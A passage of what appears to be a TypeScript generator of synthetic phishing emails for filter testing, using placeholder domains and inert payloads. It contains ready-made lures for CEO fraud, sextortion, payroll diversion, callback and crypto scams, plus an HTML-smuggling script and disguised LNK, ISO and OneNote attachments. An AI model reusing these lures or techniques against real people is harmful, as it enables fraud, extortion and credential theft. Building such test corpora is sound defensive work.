        `Ciao ${s.victim.first},\n\nsei in ufficio? Ho bisogno di un favore urgente e riservato: devo acquistare delle carte regalo per alcuni clienti entro oggi. Non posso telefonare, sono in riunione. Rispondimi appena leggi.\n\n${s.boss.name}`,
        `Bonjour ${s.victim.first},\n\nEs-tu disponible ? J'ai besoin que tu m'achètes des cartes cadeaux pour des partenaires, c'est urgent et confidentiel. Je suis en réunion, je ne peux pas appeler. Réponds-moi dès que possible.\n\n${s.boss.name}`,
        `Hallo ${s.victim.first},\n\nbist du gerade am Platz? Ich brauche kurzfristig einen vertraulichen Gefallen: Gutscheinkarten für Kunden, noch heute. Ich sitze in einem Termin und kann nicht telefonieren. Bitte kurz antworten.\n\n${s.boss.name}`,
      ]);
      return {
        headers: s.headers(s.boss.name, from, [`Reply-To: ${s.freemail(s.boss)}`]),
        subject: s.pick(['Urgente', 'Demande rapide', 'Kurze Bitte']),
        text,
      };
    },
  },
  {
    kind: 'ceo-fraud',
    template: 'confidential-acquisition-wire',
    write: (s) => {
      const project = s.pick(['Falcon', 'Harbor', 'Atlas', 'Juniper']);
      const firm = s.host('legal', 'partners');
      return {
        headers: s.headers(
          s.boss.name,
          `${s.boss.first}.${s.boss.last}@${lookalike(s, 'corp.example')}`.toLowerCase(),
          [`Cc: "${s.stranger.name}" <${s.stranger.first[0]}.${s.stranger.last}@${firm}>`.toLowerCase()],
        ),
        subject: `Project ${project} – strictly confidential`,
        text: [
          `${s.victim.first},`,
          '',
          `We are in the final stage of acquiring a company in ${s.pick(['Spain', 'the Netherlands', 'Singapore'])} (Project ${project}). This is under NDA and must not be discussed with anyone in the office until the public announcement.`,
          '',
          `I need you to handle the initial deposit of ${s.money(85_000, 480_000)} EUR to the escrow account today. ${s.stranger.name} of our external counsel (in copy) will send you the wire details. Please follow his instructions and report only to me by email.`,
          '',
          'Can I count on you?',
          '',
          s.boss.name,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'ceo-fraud',
    template: 'move-to-messaging',
    write: (s) => ({
      headers: s.headers(
        s.boss.name,
        `ceo.${s.boss.last}.office@${s.pick(['outlook.example', 'gmail.example'])}`.toLowerCase(),
      ),
      subject: s.pick(['Task', 'Urgent', 'Hi', 'Are you at your desk']),
      text: s.pick([
        `Hi ${s.victim.first}, send me your cell number. I need you to handle a task for me discreetly via WhatsApp.\n\n${s.boss.name}\n${s.company}`,
        `${s.victim.first}, are you available? Text me at ${s.phone()}, I have something time-sensitive for you.\n\nRegards,\n${s.boss.name}`,
      ]),
    }),
  },
  {
    kind: 'vendor-compromise',
    template: 'compromised-vendor-invoice-link',
    transfer: 'quoted-printable',
    write: (s) => {
      const invoice = `${s.pick(['INV', 'FAC', 'RE'])}${s.digits(6)}`;
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.vendor.name} invoice ${invoice}`,
        html: page(
          [
            `Hello ${s.victim.first},`,
            `Please find invoice ${invoice} for ${s.money(1_200, 38_000)} USD. Due to the size of the file, it is shared through our secure document portal.`,
            'Kindly confirm receipt.',
            `Thanks,<br>${s.stranger.name}<br>${s.vendor.name}`,
          ],
          ['View invoice', `https://${s.borrowed()}/inv/${s.token(12)}/`],
        ),
      };
    },
  },
  {
    kind: 'vendor-compromise',
    template: 'aged-receivables-reply-to',
    write: (s) => ({
      headers: s.headers(s.stranger.name, s.stranger.email, [
        `Reply-To: ${s.stranger.first}.${s.stranger.last}@${lookalike(s, s.vendor.domain)}`.toLowerCase(),
        authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
      ]),
      subject: `Statement of account – ${s.company}`,
      text: `Good morning ${s.victim.first},\n\nWe are reviewing our aged receivables before the quarter closes. Could you send us a statement of all open invoices from ${s.vendor.name} with their scheduled payment dates? We also have an update to our remittance details which I will send separately.\n\nMany thanks,\n${s.stranger.name}\nCredit Control, ${s.vendor.name}`,
    }),
  },
  {
    kind: 'payroll-diversion',
    template: 'direct-deposit-change',
    write: (s) => ({
      headers: s.headers(s.colleague.name, s.freemail(s.colleague)),
      subject: s.pick(['Direct deposit update', 'Change of bank account', 'Payroll question']),
      text: `Hi ${s.victim.first},\n\nI recently switched banks and would like to update my direct deposit before the next payroll. Can the change be made on your end? I can send the new account and routing number right away.\n\nI'm on the road this week, so email is best.\n\nThanks,\n${s.colleague.name}`,
    }),
  },
  {
    kind: 'w2-request',
    template: 'w2-all-employees',
    write: (s) => ({
      headers: s.headers(s.boss.name, `${s.boss.first}@${lookalike(s, 'corp.example')}`.toLowerCase(), [
        `Reply-To: ${s.freemail(s.boss)}`,
      ]),
      subject: 'W-2 request',
      text: `${s.victim.first},\n\nI need the 2026 W-2s (PDF) of all employees for a quick review with our auditors today. Please send them to me as soon as you can, zipped is fine.\n\nThanks\n${s.boss.name}`,
    }),
  },
  {
    kind: 'lawyer',
    template: 'attorney-settlement-wire',
    transfer: 'base64',
    write: (s) => {
      const firm = s.pick(['Whitcombe & Hale LLP', 'Pryor Stanton Legal', 'Ellison Marsh Solicitors']);
      const domain = s.host('law', 'llp');
      return {
        headers: s.headers(`${s.stranger.name}, Esq.`, `${s.stranger.last}@${domain}`.toLowerCase()),
        subject: `${s.company} – confidential settlement, time sensitive`,
        text: [
          `Dear ${s.victim.first},`,
          '',
          `I am acting for ${s.company} in a confidential matter that ${s.boss.name} has authorised me to close today. A settlement payment of ${s.money(40_000, 250_000)} USD must reach our client trust account before 3 p.m. to avoid the court deadline.`,
          '',
          `${s.boss.first} is boarding a flight and asked that you handle this personally. Please confirm you can process it, and I will send the trust account details. Do not discuss this with other staff, as the matter is under seal.`,
          '',
          s.stranger.name,
          firm,
          s.phone(),
        ].join('\n'),
      };
    },
  },
  {
    kind: 'extortion',
    template: 'sextortion-house-address',
    write: (s) => {
      const street = s.street();
      return {
        headers: s.headers(s.victim.name, s.victim.email, [
          authResults('corp.example', ['fail', 'none', 'fail'], s.host('mx')),
        ]),
        subject: `${s.victim.first} ${s.victim.last}, ${street}`,
        text: [
          `${s.victim.first},`,
          '',
          `I know that ${s.phone()} is your number and that you live at ${street}. Nice place, I have a photo of it.`,
          '',
          'I installed spyware on your device months ago through a site you visit. I have recordings of you through your camera while you watched those videos, and I have your contacts.',
          '',
          `Send ${s.pick(['1,950', '2,400', '1,500'])} USD in Bitcoin to this address within 48 hours:`,
          s.btc(),
          '',
          'If I receive it, everything is deleted. If not, the video goes to all your contacts, colleagues and family. Do not reply, this mailbox is not monitored. I can see when you open this message.',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'extortion',
    template: 'account-hacked-languages',
    transfer: 'quoted-printable',
    write: (s) => {
      const wallet = s.btc();
      const [subject, text] = s.pick([
        [
          'Ihr Konto wurde gehackt',
          `Hallo!\n\nIch habe Ihr Gerät vor einigen Monaten gehackt und habe Zugriff auf Ihre Kamera, Ihre E-Mails und Ihre Kontakte. Ich habe Aufnahmen von Ihnen gemacht.\n\nÜberweisen Sie ${s.pick(['1.300', '1.800'])} EUR in Bitcoin an: ${wallet}\n\nSie haben 48 Stunden. Danach schicke ich das Video an alle Ihre Kontakte.`,
        ],
        [
          'Votre appareil a été piraté',
          `Bonjour,\n\nJ'ai piraté votre appareil il y a quelques mois. J'ai accès à votre caméra, vos e-mails et vos contacts, et j'ai enregistré des vidéos de vous.\n\nEnvoyez ${s.pick(['1 300', '1 800'])} EUR en Bitcoin à l'adresse : ${wallet}\n\nVous avez 48 heures. Sinon, la vidéo sera envoyée à tous vos contacts.`,
        ],
      ] as const);
      return { headers: s.headers('Anonymous', s.freemail(s.stranger)), subject, text };
    },
  },
  {
    kind: 'callback',
    template: 'subscription-renewal-pdf',
    write: (s) => {
      const brand = s.pick(['Norton 360', 'McAfee Total Protection', 'Geek Squad Protection', 'PayPal']);
      const amount = s.money(249, 699);
      const phone = s.phone();
      const order = `${s.token(3).toUpperCase()}${s.digits(9)}`;
      return {
        headers: s.headers(brand, s.freemail(s.stranger)),
        subject: `Your order ${order} has been processed`,
        text: `Dear Customer,\n\nThank you for renewing your ${brand} subscription. $${amount} will be charged to your account within 24 hours. Your invoice is attached.\n\nIf you did not authorise this renewal, call our billing department on ${phone} to cancel and get a refund.\n\nBilling Team`,
        parts: [
          {
            type: 'application/pdf',
            name: `Invoice_${order}.pdf`,
            content: onePagePdf([
              `${brand} – Invoice`,
              `Order: ${order}   Date: 11/02/2026`,
              `Auto-renewal, 3 years, 5 devices: $${amount}`,
              'Payment: charged to the card on file',
              `Not you? Cancel within 24 hours: ${phone}`,
            ]),
          },
        ],
      };
    },
  },
  {
    kind: 'callback',
    template: 'invoicing-service-note',
    write: (s) => {
      const [service, domain] = s.pick([
        ['PayDesk', 'paydesk.example'],
        ['QuickBill', 'quickbill.example'],
      ] as const);
      const phone = s.phone();
      return {
        headers: s.headers(
          `${s.pick(['Billing Department', 'Crypto Services LLC', 'Geek Support'])} via ${service}`,
          `invoicing@${domain}`,
          [authResults(domain, ['pass', 'pass', 'pass'])],
        ),
        subject: `You have a new invoice: ${s.money(400, 900)} USD`,
        html: page(
          [
            `Invoice #${s.digits(6)} · Due on receipt`,
            `<b>Seller note:</b> Your account was charged for ${s.pick(['a Bitcoin purchase', 'a premium support plan', 'an annual subscription'])}. If you did not make this purchase, contact our support team at ${phone} within 24 hours to cancel and receive a full refund.`,
          ],
          ['View and pay invoice', `https://www.${domain}/invoice/p/#${s.token(20).toUpperCase()}`],
          `${service} never asks for passwords by email. You received this because a seller sent you an invoice.`,
        ),
      };
    },
  },
  {
    kind: 'html-smuggling',
    template: 'remittance-html-smuggling',
    write: (s) => {
      const blob = Buffer.from(`PK\u0003\u0004 inert stand-in ${s.token(40)}`).toString('base64');
      const name = `Remittance_Advice_${s.digits(6)}`;
      return {
        headers: s.headers(`${s.vendor.name} Payments`, `payments@${lookalike(s, s.vendor.domain)}`),
        subject: `Remittance advice ${s.digits(8)} – payment sent`,
        text: `Hello,\n\nPlease see the attached remittance advice for the payment released today (${s.money(2_000, 40_000)} USD). Open the file in your browser to view.\n\nAccounts Payable`,
        parts: [
          {
            type: 'text/html',
            name: `${name}.html`,
            content: Buffer.from(
              `<html><body><p>Preparing your document…</p><script>var d=atob("${blob}");var b=new Uint8Array(d.length);for(var i=0;i<d.length;i++)b[i]=d.charCodeAt(i);var u=URL.createObjectURL(new Blob([b],{type:"application/zip"}));var a=document.createElement("a");a.href=u;a.download="${name}.zip";document.body.appendChild(a);a.click();</script></body></html>`,
            ),
          },
        ],
      };
    },
  },
  {
    kind: 'protected-archive',
    template: 'password-zip-invoice',
    write: (s) => {
      const n = s.digits(6);
      const password = s.digits(4);
      const [subject, text] = s.pick([
        [
          `Invoice ${n}`,
          `Hello,\n\nAttached is invoice ${n}. The file is protected for security reasons.\nPassword: ${password}\n\nRegards`,
        ],
        [
          `Fatura ${n}`,
          `Olá,\n\nSegue em anexo a fatura ${n}. O arquivo está protegido.\nSenha: ${password}\n\nAtenciosamente`,
        ],
        [
          `Factura pendiente ${n}`,
          `Buenos días,\n\nAdjunto la factura ${n} pendiente de pago. El archivo está protegido.\nContraseña: ${password}\n\nSaludos`,
        ],
      ] as const);
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first}@${s.borrowed()}`.toLowerCase()),
        subject,
        text,
        parts: [
          {
            type: 'application/zip',
            name: `${subject.replace(/\W+/g, '_')}.zip`,
            content: protectedZip(`${subject.replace(/\W+/g, '_')}.js`, Number(n)),
          },
        ],
      };
    },
  },
  {
    kind: 'shortcut-archive',
    template: 'scanner-lnk-zip',
    write: (s) => {
      const n = s.digits(8);
      return {
        headers: s.headers(
          s.pick(['KM_C458', 'RICOH MP C3004', 'Xerox WorkCentre']),
          'scanner@corp.example',
          [authResults('corp.example', ['fail', 'none', 'fail'], s.host('relay'))],
        ),
        subject: `Scanned document from multifunction printer (${n})`,
        text: `A document was scanned and sent to you.\n\nPages: ${1 + s.below(9)}\nFile: Scan_${n}.zip\nDevice: 3rd floor\n\nPlease open the attached file.`,
        parts: [
          {
            type: 'application/zip',
            name: `Scan_${n}.zip`,
            content: zipOf(`Scan_${n}.pdf.lnk`),
          },
        ],
      };
    },
  },
  {
    kind: 'disk-image',
    template: 'purchase-order-iso',
    write: (s) => {
      const po = `PO${s.digits(7)}`;
      const trader = s.pick(['Shenghai Trading Co.', 'Golden Bridge Imports', 'Al Noor General Trading']);
      return {
        headers: s.headers(`${s.stranger.name} | ${trader}`, `purchase@${s.host('trading')}`),
        subject: `New order ${po} – kindly confirm`,
        text: `Dear Sir/Madam,\n\nGood day. Kindly find attached our purchase order ${po} and confirm availability, lead time and best price. Payment will be made by T/T as usual.\n\nWaiting for your prompt reply.\n\nBest Regards,\n${s.stranger.name}\nPurchasing Manager\n${trader}`,
        parts: [{ type: 'application/x-iso9660-image', name: `${po}.iso`, content: diskImage() }],
      };
    },
  },
  {
    kind: 'disk-image',
    template: 'shipping-documents-img',
    write: (s) => {
      const bl = `${s.pick(['MAEU', 'MSCU', 'HLCU'])}${s.digits(9)}`;
      return {
        headers: s.headers(
          s.pick(['Ocean Freight Desk', 'Shipping Documentation']),
          `docs@${s.host('freight', 'line')}`,
        ),
        subject: `Shipping documents / B/L ${bl} – arrival notice`,
        html: page([
          'Dear Customer,',
          `Your shipment under B/L ${bl} has arrived at the port of discharge. Please find attached the original bill of lading, commercial invoice and packing list.`,
          `Demurrage of ${s.money(150, 900)} USD per day applies from ${s.pick(['Wednesday', 'Friday'])}.`,
        ]),
        parts: [{ type: 'application/octet-stream', name: `BL_${bl}_Docs.img`, content: diskImage() }],
      };
    },
  },
  {
    kind: 'onenote',
    template: 'statement-onenote',
    write: (s) => {
      const n = s.digits(6);
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `Statement ${n} – ${s.vendor.name}`,
        text: `Hi,\n\nAttached is the statement you asked for. Double-click "View document" in the file to open it.\n\nThanks\n${s.stranger.first}`,
        parts: [
          { type: 'application/onenote', name: `Statement_${n}.one`, content: oneNote('View_document.wsf') },
        ],
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'mfa-qr-inline-png',
    write: async (s) => {
      const url = `https://${s.host('mfa', 'setup')}/enroll?t=${s.token(16)}#${prefill(s)}`;
      return {
        headers: s.headers('Microsoft 365 Security', `security-noreply@${s.host('m365', 'security')}`),
        subject: `Action required: MFA for ${s.victim.email} expires today`,
        html: page(
          [
            `Your multi-factor authentication settings for <b>${s.victim.email}</b> expire today.`,
            'Scan the QR code below with your phone camera to re-validate them. Validation from a computer is not supported.',
            '<img src="cid:mfa-qr.png" width="200" height="200" alt="QR">',
          ],
          undefined,
          'Microsoft 365 Security Center',
        ),
        parts: [{ type: 'image/png', name: 'mfa-qr.png', content: await qrPng(url), inline: true }],
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'qr-html-table-document',
    transfer: 'quoted-printable',
    write: (s) => {
      const url = `https://${s.host('doc', 'view')}/d/${s.token(10)}?e=${prefill(s)}`;
      return {
        headers: s.headers(
          `${s.pick(['DocuSign', 'Adobe Sign', 'SharePoint'])} Notification`,
          `notify@${s.host('esign')}`,
        ),
        subject: `Document ready for ${s.victim.first}: ${s.pick(['Q4 Bonus Approval', 'Updated Contract', 'Benefits Statement'])}`,
        html: page(
          [
            `${s.boss.name} sent you a document to review.`,
            'For security, this document can only be opened on a mobile device. Scan the code with your phone:',
            qrTable(url),
          ],
          undefined,
          'This is an automated message.',
        ),
      };
    },
  },
  {
    kind: 'calendar-invite',
    template: 'ics-review-meeting-link',
    write: (s) => {
      const link = `https://${s.host('meet', 'review')}/join/${s.token(12)}`;
      const organizer =
        `${s.colleague.first}.${s.colleague.last}@${lookalike(s, 'corp.example')}`.toLowerCase();
      const summary = s.pick(['Q4 Performance Review', 'Compensation discussion', 'Restructuring briefing']);
      return {
        headers: s.headers(s.colleague.name, organizer),
        subject: `Invitation: ${summary} @ ${s.pick(['Tue', 'Wed', 'Thu'])} Nov ${3 + s.below(5)}, 2026 ${9 + s.below(7)}:00`,
        text: `${s.colleague.name} has invited you to ${summary}.\n\nPlease review the attached agenda before the meeting: ${link}\n\nJoin online: ${link}`,
        parts: [
          {
            type: 'text/calendar; method=REQUEST',
            name: 'invite.ics',
            content: invitation({
              uid: `${uuid(s)}@${domainOf(organizer)}`,
              organizer,
              attendee: s.victim.email,
              summary,
              description: `Agenda and documents (sign in with your company account): ${link}`,
              location: link,
              start: `202611${String(3 + s.below(5)).padStart(2, '0')}T${10 + s.below(6)}0000Z`,
            }),
          },
        ],
      };
    },
  },
  {
    kind: 'calendar-invite',
    template: 'ics-deadline-reminder',
    write: (s) => {
      const link = `https://${s.host('payroll', 'portal')}/confirm?u=${encodeURIComponent(s.victim.email)}`;
      const organizer = `payroll@${s.host('payroll')}`;
      return {
        headers: s.headers('Payroll', organizer),
        subject: 'Reminder: confirm your payroll details before cut-off',
        parts: [
          {
            type: 'text/calendar; method=REQUEST',
            name: 'reminder.ics',
            content: invitation({
              uid: `${uuid(s)}@${domainOf(organizer)}`,
              organizer,
              attendee: s.victim.email,
              summary: 'ACTION: Payroll details confirmation deadline',
              description: `All employees must confirm their bank details before the payroll cut-off or salary payment will be delayed. Confirm here: ${link}`,
              location: link,
              start: `202611${String(10 + s.below(10))}T090000Z`,
            }),
          },
        ],
      };
    },
  },
  {
    kind: 'reply-chain-hijack',
    template: 're-thread-link-to-zip',
    write: (s) => {
      const topic = s.pick(['Q3 reconciliation', 'shipment schedule', 'contract renewal', 'site visit']);
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          `In-Reply-To: <${s.token(20)}@corp.example>`,
          `References: <${s.token(20)}@${s.vendor.domain}> <${s.token(20)}@corp.example>`,
          authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `RE: ${topic}`,
        text: [
          'Hello,',
          '',
          `Please see the file below and confirm: https://${s.borrowed()}/${s.token(6)}/${s.digits(4)}.zip`,
          '',
          'Thank you',
          '',
          `On ${s.pick(['Mon', 'Thu', 'Fri'])}, Oct ${10 + s.below(18)}, 2026, ${s.victim.name} <${s.victim.email}> wrote:`,
          `> Hi ${s.stranger.first}, thanks for the update on the ${topic}. Could you send the revised figures when you have them?`,
          `> Best, ${s.victim.first}`,
          '>',
          `>> On Oct ${1 + s.below(9)}, 2026, ${s.stranger.name} wrote:`,
          `>> Hi ${s.victim.first}, we are finalising the ${topic} on our side and will revert this week.`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'reply-chain-hijack',
    template: 're-thread-german',
    transfer: 'quoted-printable',
    write: (s) => {
      const offer = `Angebot ${s.digits(5)}`;
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          `In-Reply-To: <${s.token(20)}@corp.example>`,
          `References: <${s.token(20)}@corp.example>`,
        ]),
        subject: `AW: ${offer}`,
        text: [
          'Guten Tag,',
          '',
          'anbei die überarbeitete Version zur Prüfung. Bitte kurz bestätigen:',
          `https://${s.borrowed()}/dokument/${s.token(10)}`,
          '',
          'Mit freundlichen Grüßen',
          s.stranger.name,
          '',
          `-----Ursprüngliche Nachricht-----`,
          `Von: ${s.victim.name} <${s.victim.email}>`,
          `Betreff: ${offer}`,
          '',
          `Hallo ${s.stranger.last}, vielen Dank für das Angebot. Können Sie die Lieferzeiten noch ergänzen?`,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'lookalike-thread',
    template: 'lookalike-vendor-thread-bank',
    write: (s) => {
      const fake = lookalike(s, s.vendor.domain);
      const invoice = `INV-${s.digits(5)}`;
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first}.${s.stranger.last}@${fake}`.toLowerCase(), [
          `Cc: "${s.colleague.name}" <${s.colleague.first}.${s.colleague.last}@${lookalike(s, 'corp.example')}>`.toLowerCase(),
          `In-Reply-To: <${s.token(18)}@corp.example>`,
          `References: <${s.token(18)}@${s.vendor.domain}> <${s.token(18)}@corp.example>`,
          authResults(fake, ['pass', 'pass', 'none']),
        ]),
        subject: `RE: Payment for ${invoice}`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          `As discussed, please use the account on the attached letter for ${invoice}; the old one is being closed this week. ${s.colleague.first} is in copy for approval.`,
          '',
          `Thanks,\n${s.stranger.first}`,
          '',
          `From: ${s.victim.name} <${s.victim.email}>`,
          `Sent: ${s.pick(['Monday', 'Tuesday'])}, October ${10 + s.below(18)}, 2026`,
          `To: ${s.stranger.name} <${s.stranger.email}>`,
          `Subject: Payment for ${invoice}`,
          '',
          `Hi ${s.stranger.first}, ${invoice} is scheduled for our next payment run on Thursday.`,
        ].join('\n'),
        parts: [
          {
            type: 'application/pdf',
            name: `${s.vendor.name.replace(/\W+/g, '_')}_bank_letter.pdf`,
            content: onePagePdf([
              `${s.vendor.name}`,
              'Confirmation of bank account details',
              `Account name: ${s.vendor.name}`,
              `IBAN: NL${s.digits(2)} ${s.pick(['INGB', 'RABO', 'ABNA'])} ${s.digits(4)} ${s.digits(4)} ${s.digits(2)}`,
            ]),
          },
        ],
      };
    },
  },
  {
    kind: 'charity-scam',
    template: 'disaster-relief-crypto',
    write: (s) => {
      const disaster = s.pick(['earthquake', 'flood', 'wildfire', 'hurricane']);
      const fund = s.pick(['Global Relief Alliance', 'Hope Without Borders', 'United Aid Network']);
      return {
        headers: s.headers(fund, `donate@${s.host('relief', 'aid')}`),
        subject: `Urgent appeal: ${disaster} victims need your help today`,
        html: page(
          [
            `Thousands of families have lost everything in this week's ${disaster}. ${fund} volunteers are on the ground distributing water, food and shelter.`,
            `Every donation made in the next 72 hours is <b>matched</b> by our partners. Donate by card on our page, or in crypto:`,
            `BTC: ${s.btc()}<br>ETH/USDT: ${s.eth()}`,
          ],
          ['Donate now', `https://${s.host('relief', 'donate')}/give?c=${s.token(6)}`],
          `${fund} is a registered charity. Donations may be tax deductible.`,
        ),
      };
    },
  },
  {
    kind: 'charity-scam',
    template: 'company-matching-pledge',
    write: (s) => ({
      headers: s.headers(`${s.company} Giving`, `giving@${lookalike(s, 'corp.example')}`),
      subject: `${s.company} will match your holiday donation 2:1`,
      html: page(
        [
          `Dear ${s.victim.first},`,
          `This season ${s.company} doubles every employee pledge to our partner charities. To pledge, sign in with your company account; the amount is deducted from your next pay slip.`,
          `Pledges close ${s.pick(['Friday', 'December 15'])}.`,
        ],
        ['Pledge now', `https://${s.host('giving', 'pledge')}/sso?u=${encodeURIComponent(s.victim.email)}`],
      ),
    }),
  },
  {
    kind: 'crypto-drain',
    template: 'wallet-verification',
    transfer: 'base64',
    write: (s) => {
      const wallet = s.pick(['MetaMask', 'Ledger', 'Trust Wallet', 'Coinbase Wallet']);
      return {
        headers: s.headers(
          `${wallet} Support`,
          `support@${s.host(wallet.toLowerCase().replace(/\s+/g, ''), 'wallet')}`,
        ),
        subject: `${wallet}: mandatory wallet verification before ${s.pick(['November 10', 'November 15'])}`,
        html: page(
          [
            'Dear user,',
            `Following new KYC regulations, all ${wallet} wallets must be verified. Wallets that are not verified will be restricted and assets may be frozen.`,
            'Connect your wallet and confirm your recovery phrase to complete verification. It takes less than two minutes.',
          ],
          ['Verify wallet', `https://${s.host('wallet', 'verify')}/connect?ref=${s.token(8)}`],
          `© 2026 ${wallet}. Do not share your recovery phrase with anyone.`,
        ),
      };
    },
  },
  {
    kind: 'crypto-drain',
    template: 'airdrop-claim',
    write: (s) => {
      const ticker = s.pick(['ARB', 'ZKX', 'STRK', 'LYRA']);
      return {
        headers: s.headers(`${ticker} Foundation`, `airdrop@${s.host(ticker.toLowerCase(), 'claim')}`),
        subject: `You are eligible: ${s.digits(1)},${s.digits(3)} $${ticker} airdrop`,
        text: `Your wallet ${s.eth()} is eligible for the $${ticker} community airdrop (est. value $${s.money(800, 9_000)}).\n\nClaim before the snapshot closes in 48 hours:\nhttps://${s.host(ticker.toLowerCase(), 'claim')}/claim?w=${s.hex(8)}\n\nConnect the eligible wallet and sign the claim transaction. Unclaimed tokens return to the treasury.`,
      };
    },
  },
  {
    kind: 'job-scam',
    template: 'remote-offer-equipment-check',
    write: (s) => {
      const role = s.pick(['Data Entry Specialist', 'Remote Administrative Assistant', 'Payroll Clerk']);
      return {
        headers: s.headers(`${s.stranger.name} | Talent Acquisition`, s.freemail(s.stranger), [
          `Reply-To: hr.onboarding${s.digits(3)}@${s.pick(['gmail.example', 'outlook.example'])}`,
        ]),
        subject: `Offer of employment – ${role} (remote)`,
        text: [
          `Dear ${s.victim.first},`,
          '',
          `Following your online interview, we are pleased to offer you the position of ${role} at ${s.pick(['Brightpath Solutions', 'Nexora Health', 'Crestline Analytics'])}, at $${30 + s.below(15)}/hour, fully remote.`,
          '',
          `To set up your home office, we will mail you a check of $${s.money(2_500, 4_800)}. Deposit it by mobile and purchase your equipment from our approved vendor, whose details I will send. Any remaining balance must be returned by Zelle.`,
          '',
          'Please reply with your full name, address and mobile number to proceed.',
          '',
          s.stranger.name,
          'HR Manager',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'job-scam',
    template: 'task-job-messaging',
    write: (s) => {
      const text = s.pick([
        `Hello ${s.victim.first},\n\nWe found your profile online. We offer a flexible part-time job: rate products and apps online 60–90 minutes a day and earn $250–$900 a day, paid daily. No experience needed.\n\nContact our HR manager on WhatsApp: ${s.phone()}\n\nBest regards,\nRecruitment team`,
        `Olá ${s.victim.first},\n\nEncontrámos o seu perfil. Oferecemos trabalho a tempo parcial: avaliar produtos online 60 a 90 minutos por dia e ganhar 200 a 800 € por dia, pago diariamente.\n\nContacte a nossa gestora de RH no WhatsApp: ${s.phone()}\n\nCumprimentos,\nEquipa de recrutamento`,
      ]);
      return {
        headers: s.headers(
          s.pick(['Recruitment Team', 'HR Department', 'Talent Hub']),
          s.freemail(s.stranger),
        ),
        subject: s.pick([
          'Part-time opportunity',
          'Remote job offer – flexible hours',
          'Oportunidade de trabalho',
        ]),
        text,
      };
    },
  },
  {
    kind: 'delivery-fee',
    template: 'customs-fee',
    write: (s) => {
      const fee = s.money(1, 4).replace(/^/, s.pick(['€', '£', '$']));
      const tracking = `${s.token(2).toUpperCase()}${s.digits(9)}${s.pick(['DE', 'GB', 'US'])}`;
      return {
        headers: s.headers('Customs Clearance', `clearance@${s.host('parcel', 'customs')}`),
        subject: `Parcel ${tracking} held at customs – import fee due`,
        html: page(
          [
            `Your parcel <b>${tracking}</b> is being held at the customs office. An import fee of <b>${fee}</b> is outstanding.`,
            'Pay the fee within 48 hours, or the parcel will be returned to the sender.',
          ],
          ['Pay import fee', `https://${s.host('parcel', 'pay')}/t/${tracking}`],
          'Parcel service – automatic notification',
        ),
      };
    },
  },
  {
    kind: 'delivery-fee',
    template: 'redelivery-french',
    transfer: 'quoted-printable',
    write: (s) => {
      const number = `${s.digits(2)}${s.token(2).toUpperCase()}${s.digits(9)}`;
      return {
        headers: s.headers('Service Colis', `suivi@${s.host('colis', 'suivi')}`),
        subject: `Votre colis ${number} n'a pas pu être livré`,
        html: page(
          [
            'Bonjour,',
            `Votre colis n° ${number} n'a pas pu être livré car l'adresse est incomplète.`,
            `Veuillez confirmer votre adresse et régler les frais de réexpédition de ${s.money(1, 3)} € avant demain.`,
          ],
          ['Programmer une nouvelle livraison', `https://${s.host('colis', 'livraison')}/suivi/${number}`],
        ),
      };
    },
  },
  {
    kind: 'account-suspension',
    template: 'page-policy-appeal',
    write: (s) => {
      const crm = s.pick(['crm-mailer.example', 'sendwave.example']);
      return {
        headers: s.headers('Meta Business Support', `no-reply@${crm}`, [
          authResults(crm, ['pass', 'pass', 'pass']),
        ]),
        subject: `Your page has been scheduled for permanent deletion (case #${s.digits(10)})`,
        html: page(
          [
            'We received multiple reports that your page violates our trademark and intellectual property policies.',
            'If you believe this is a mistake, you can submit an appeal within 24 hours. After that the page and your business account will be permanently deleted.',
          ],
          ['Submit appeal', `https://${s.host('meta', 'appeal')}/case/${s.digits(10)}`],
          '© Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025',
        ),
      };
    },
  },
  {
    kind: 'account-suspension',
    template: 'membership-on-hold',
    write: (s) => {
      const brand = s.pick(['Netflix', 'Disney+', 'Spotify', 'Amazon Prime']);
      return {
        headers: s.headers(brand, `info@${s.host('account', 'billing')}`),
        subject: `${brand}: your membership is on hold`,
        html: page(
          [
            `Hi ${s.victim.first},`,
            `We were unable to process your last payment, so your ${brand} membership is on hold. Update your payment details to continue enjoying ${brand}.`,
          ],
          ['Update payment', `https://${s.host('account', 'billing')}/update?id=${s.token(10)}`],
          `Questions? Visit the Help Centre. This account email is associated with ${s.victim.email}.`,
        ),
      };
    },
  },
  {
    kind: 'mfa-reenrolment',
    template: 'authenticator-reregister',
    write: (s) => {
      const from = `security@${lookalike(s, 'corp.example')}`;
      return {
        headers: s.headers(`${s.company} IT Security`, from, [
          authResults(domainOf(from), ['pass', 'none', 'none']),
        ]),
        subject: 'Security policy update: re-register Microsoft Authenticator by Friday',
        html: page(
          [
            `Hi ${s.victim.first},`,
            `As part of our move to phishing-resistant MFA, every ${s.company} account must re-register Microsoft Authenticator by Friday. Accounts that have not been re-registered will be disabled at 17:00.`,
            'Use the link below and sign in with your current password and code.',
          ],
          [
            'Re-register now',
            `https://aka-ms-mfasetup.test/?login_hint=${encodeURIComponent(s.victim.email)}`,
          ],
          `${s.company} Information Security`,
        ),
      };
    },
  },
  {
    kind: 'mfa-reenrolment',
    template: 'okta-verify-new-device',
    transfer: 'quoted-printable',
    write: (s) => {
      const tenant = `${s.company.toLowerCase().replace(/\W+/g, '')}-okta.test`;
      return {
        headers: s.headers('Okta', `noreply@${tenant}`),
        subject: 'Set up Okta Verify on your new device',
        text: [
          `Hi ${s.victim.first},`,
          '',
